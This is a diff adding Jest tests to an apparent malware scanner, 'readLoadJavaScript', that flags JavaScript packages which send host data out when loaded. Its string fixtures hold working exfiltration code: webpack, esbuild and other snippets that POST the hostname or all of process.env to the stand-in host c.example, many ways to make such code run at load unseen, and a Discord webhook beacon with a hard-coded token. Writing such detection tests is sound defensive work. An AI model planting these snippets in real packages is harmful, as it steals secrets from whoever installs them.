@@ -26,6 +26,47 @@ describe('readLoadJavaScript: findings at load', () => {
   });
 });
 
+/** A webpack 5 bundle as minified: a map of module factories by id, a loader, the entry required by id. */
+const webpack5 = (entry: number, payloadId: number): string =>
+  `(()=>{var e={12:(e,t,r)=>{r(34);e.exports=1},${payloadId}:(e,t,r)=>{const h=require("https");h.request({hostname:"c.example",method:"POST"}).end(JSON.stringify({h:require("os").hostname()}))},78:e=>{e.exports=2}},t={};function r(n){var o=t[n];if(void 0!==o)return o.exports;var i=t[n]={exports:{}};return e[n](i,i.exports,r),i.exports}var n=r(${entry});module.exports=n})();`;
+
+describe('readLoadJavaScript: the ways code is run at load', () => {
+  test.each([
+    ['process.nextTick', `${HEAD}process.nextTick(function () { ${HOST_DATA_SEND} });`],
+    ['setImmediate', `${HEAD}setImmediate(() => { ${HOST_DATA_SEND} });`],
+    ['queueMicrotask', `${HEAD}queueMicrotask(() => { ${HOST_DATA_SEND} });`],
+    ['Promise.resolve().then', `${HEAD}Promise.resolve().then(() => { ${HOST_DATA_SEND} });`],
+    ["a promise's executor", `${HEAD}new Promise((resolve) => { ${HOST_DATA_SEND} resolve(); });`],
+    ['module.exports set to what a function called at once returns', `${HEAD}module.exports = (function () { ${HOST_DATA_SEND} return {}; }());`],
+    ['an IIFE run through .call', `${HEAD}(function () { ${HOST_DATA_SEND} }).call(this);`],
+    ['!function(){}()', `${HEAD}!function () { ${HOST_DATA_SEND} }();`],
+    ['void function(){}()', `${HEAD}void function () { ${HOST_DATA_SEND} }();`],
+    ['a named function expression called at once', `${HEAD}(function go() { ${HOST_DATA_SEND} })();`],
+    ['an arrow function bound to a name and called', `${HEAD}const go = async () => { ${HOST_DATA_SEND} };\ngo().catch(() => {});`],
+    ['a function expression bound to a name and called', `${HEAD}var go = function () { ${HOST_DATA_SEND} };\ngo();`],
+    ['a function the module exports and calls', `${HEAD}exports.go = function () { ${HOST_DATA_SEND} };\nmodule.exports.go();`],
+    ["an object's method called by the object's name", `${HEAD}const probe = { run() { ${HOST_DATA_SEND} } };\nprobe.run();`],
+    ["an object's function-valued key called through .call", `${HEAD}const probe = { run: function () { ${HOST_DATA_SEND} } };\nprobe.run.call(null);`],
+    ['a class static block', `${HEAD}class A { static { ${HOST_DATA_SEND} } }`],
+    ['a declared function handed to a timer by name', `${HEAD}function main() { ${HOST_DATA_SEND} }\nsetTimeout(main, 100);`],
+    ['an arrow bound to a name handed to process.nextTick', `${HEAD}const main = () => { ${HOST_DATA_SEND} };\nprocess.nextTick(main);`],
+    ['an async function handed to then by name', `${HEAD}async function main() { ${HOST_DATA_SEND} }\nPromise.resolve().then(main);`],
+    ["an exit handler registered by name", `${HEAD}function onExit() { ${HOST_DATA_SEND} }\nprocess.on('exit', onExit);`],
+    ["an object's functions called by a computed name", `${HEAD}const steps = { a() {}, b: function () { ${HOST_DATA_SEND} } };\nfor (const k of Object.keys(steps)) steps[k]();`],
+    ["a webpack 5 bundle's entry module", webpack5(56, 56)],
+    ["a module a webpack 5 bundle's entry requires", webpack5(12, 34)],
+    ["a webpack 4 bundle's entry module (a map by index, `n(n.s = 1)`)", 'module.exports=function(e){var t={};function n(r){if(t[r])return t[r].exports;var o=t[r]={i:r,l:!1,exports:{}};return e[r].call(o.exports,o,o.exports,n),o.l=!0,o.exports}return n(n.s=1)}([function(e,t){e.exports=1},function(e,t,n){n(0);var h=require("https");h.request({hostname:"c.example",method:"POST"}).end(JSON.stringify(process.env))}]);'],
+    ["a webpack 4 development bundle's entry module (a map by path)", `module.exports = (function (modules) { var installedModules = {}; function __webpack_require__(moduleId) { var module = installedModules[moduleId] = { exports: {} }; modules[moduleId].call(module.exports, module, module.exports, __webpack_require__); return module.exports; } return __webpack_require__(__webpack_require__.s = "./src/index.js"); })({ "./src/index.js": (function (module, exports, __webpack_require__) { ${HEAD}${HOST_DATA_SEND} }) });`],
+    ['an esbuild bundle\'s module run by its require_ wrapper', `var __commonJS = (cb, mod) => function __require() { return mod || (0, cb[Object.keys(cb)[0]])((mod = { exports: {} }).exports, mod), mod.exports; };\nvar require_probe = __commonJS({ "probe.js"(exports, module) { ${HEAD}${HOST_DATA_SEND} } });\nmodule.exports = require_probe();`],
+  ])('%s', (_name, code) => {
+    expect(readLoadJavaScript(code)).toEqual(['exfiltration']);
+  });
+
+  test("a Discord webhook client made with the webhook's id and token written in the code, used at load", () => {
+    expect(readLoadJavaScript("const { WebhookClient } = require('discord.js');\nnew WebhookClient({ id: '766342517549301771', token: 'r5lqtrhieTfiwqhneOrtWQsK0WtT' }).send('x');")).toEqual(['beacon']);
+  });
+});
+
 describe('readLoadJavaScript: what a library does when asked is not a finding', () => {
   test.each([
     ['an SDK that sends os.hostname() only inside an exported function', `${HEAD}module.exports = function report() { ${HOST_DATA_SEND} };`],
@@ -39,6 +80,14 @@ describe('readLoadJavaScript: what a library does when asked is not a finding', 
     ['calls named in strings (a rule table of deprecated APIs) beside a network import', "const http = require('http');\nmodule.exports = { http: { createClient: { replacedBy: \"'http.request()'\" } }, os: { getNetworkInterfaces: { replacedBy: \"'os.networkInterfaces()'\" } } };"],
     ['a route handler registered at load', "const app = require('express')();\nconst https = require('https');\napp.use('/x', (req, res) => { https.get('https://t.example/?h=' + os.hostname()); });"],
     ['a declared function never called', "function boot() { eval(Buffer.from('eA==', 'base64').toString()); }\nmodule.exports = boot;"],
+    ["a webpack 5 bundle's module that the entry never requires", webpack5(12, 56)],
+    ['a function handed by name to util.promisify and exported (wrapped, not run)', `${HEAD}function send(cb) { ${HOST_DATA_SEND} }\nmodule.exports = require('util').promisify(send);`],
+    ['a table of handlers called by a computed name only inside an exported function', `${HEAD}const handlers = { report() { ${HOST_DATA_SEND} } };\nexports.dispatch = function (name) { return handlers[name](); };`],
+    ['an arrow function bound to a name and exported, not called', `${HEAD}const report = () => { ${HOST_DATA_SEND} };\nmodule.exports = { report };`],
+    ['an exported function beside another exported function the module calls', `${HEAD}exports.report = function () { ${HOST_DATA_SEND} };\nexports.init = function () {};\nexports.init();`],
+    ["an object's method whose name another object's called method shares", `${HEAD}const client = { send() { ${HOST_DATA_SEND} } };\nconst queue = { send() {} };\nqueue.send();\nmodule.exports = client;`],
+    ["a Discord webhook client made from the user's configuration (discord.js's documented use)", "const { WebhookClient } = require('discord.js');\nconst hook = new WebhookClient({ url: process.env.WEBHOOK_URL });\nhook.send('deployed');"],
+    ["a Telegram bot made from the user's token (telegraf's documented use)", "const { Telegraf } = require('telegraf');\nconst bot = new Telegraf(process.env.BOT_TOKEN);\nbot.launch();"],
   ])('%s', (_name, code) => {
     expect(readLoadJavaScript(code)).toEqual([]);
   });
